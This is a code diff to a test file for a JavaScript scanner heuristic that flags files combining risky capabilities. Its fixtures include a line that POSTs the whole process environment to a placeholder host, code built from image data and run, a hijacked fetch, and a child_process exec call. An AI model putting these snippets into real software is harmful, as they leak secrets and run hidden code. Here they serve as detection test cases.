@@ -1,9 +1,10 @@
 /**
- * Which large files are parsed (js-file.ts wantsAst): a bundle is read closely when two
+ * Which files are parsed (js-file.ts wantsAst): a bundle is read closely when two
  * capabilities that act together stand together (a request and the environment, a process and a
  * URL, decoding and running code), even with encoded data between them; ordinary bundle code that
  * names capabilities far apart, lists module names, links to documentation in comments or sets
- * two targets side by side is not.
+ * two targets side by side is not. A small file is parsed unless all it names is one weak token
+ * (an environment read, a request, a decoding name).
  */
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
@@ -62,6 +63,19 @@ test('an invisible character that can be part of a name is parsed; joiners insid
   assert.equal(wantsAst(inBundle(`const {timeout,\u3164}=req.query;exec(\u3164)`)), true);
   assert.equal(wantsAst(inBundle(`var isAdmin\u200d=true`)), true);
   assert.equal(wantsAst(inBundle(`var nonASCIIidentifierChars="\u200c\u200d\xb7\u0300-\u036f"`)), false);
+});
+
+test('a small file is parsed when a capability can act in it: one weak token alone (an environment read, a request, a decoding name) is not enough', () => {
+  assert.equal(wantsAst(`module.exports=function(){if(process.env.NODE_ENV!=="production")console.warn(process.env.DEBUG)}`), false);
+  assert.equal(wantsAst(`exports.get=(u)=>fetch(u).then((r)=>r.json())`), false);
+  assert.equal(wantsAst(`exports.id=(b)=>createHash("sha1").update(b).digest("hex")`), false);
+  // Two classes together: the environment and a request.
+  assert.equal(wantsAst(`fetch("https://x.invalid/c",{method:"POST",body:JSON.stringify(process.env)})`), true);
+  // Code run from data is never weak, nor is a replaced fetch, nor a module that acts.
+  assert.equal(wantsAst(`var c=bits(img);new Function(c)()`), true);
+  assert.equal(wantsAst(`var f=window.fetch;window.fetch=function(u,o){return f(u,o)}`), true);
+  assert.equal(wantsAst(`require("child_process").exec(cmd)`), true);
+  assert.equal(wantsAst(`var x=1;\nwhile(true){}`), true);
 });
 
 test('a large file with no capability at all is not parsed', () => {
